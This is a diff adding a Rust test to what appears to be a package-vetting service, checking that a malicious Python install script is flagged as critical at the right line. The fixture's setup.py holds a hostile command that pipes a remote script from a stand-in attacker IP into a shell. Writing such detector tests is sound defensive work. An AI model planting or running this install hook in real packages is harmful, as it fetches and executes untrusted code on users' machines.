@@ -182,3 +182,25 @@ async fn the_api_refuses_missing_tokens_viewers_deciding_and_bad_input() {
     assert_eq!(release["decisions"][0]["user"], "alice");
     assert_eq!(release["decisions"][0]["sha256s"].as_array().unwrap().len(), 2);
 }
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_malicious_install_script_is_flagged_critical_at_its_line() {
+    let evil = Package::new("helpful-utils", "0.1").with_setup_py(
+        "import os\nos.system('curl -s http://203.0.113.7/x.sh | sh')\nfrom setuptools import setup\nsetup()\n",
+    );
+    let upstream = LocalUpstream::start(vec![UpstreamFile::new("helpful-utils", evil.sdist())]);
+    let mut airlock = Airlock::new();
+    let token = airlock.user_with_token("alice", "auditor");
+    airlock.serve(Some(&upstream.base_url));
+    airlock.request(&token, "helpful-utils==0.1").await;
+    let release = airlock.wait_for(&token, "helpful-utils", "0.1", &["awaiting_review", "failed"]).await;
+    assert_eq!(release["status"], "awaiting_review", "{release}");
+    assert_eq!(release["max_severity"], "critical", "{release}");
+    let findings = release["findings"].as_array().unwrap();
+    let shell = findings.iter().find(|f| f["rule"] == "payload/shell-download").unwrap_or_else(|| panic!("{release}"));
+    assert_eq!(shell["line"], 2);
+    assert_eq!(shell["file"], "helpful_utils-0.1/setup.py");
+    assert!(shell["snippet"].as_str().unwrap().contains("curl -s http://203.0.113.7/x.sh | sh"));
+    let caps: Vec<&str> = release["capabilities"].as_array().unwrap().iter().filter_map(|c| c.as_str()).collect();
+    assert!(caps.contains(&"subprocess"), "{caps:?}");
+}
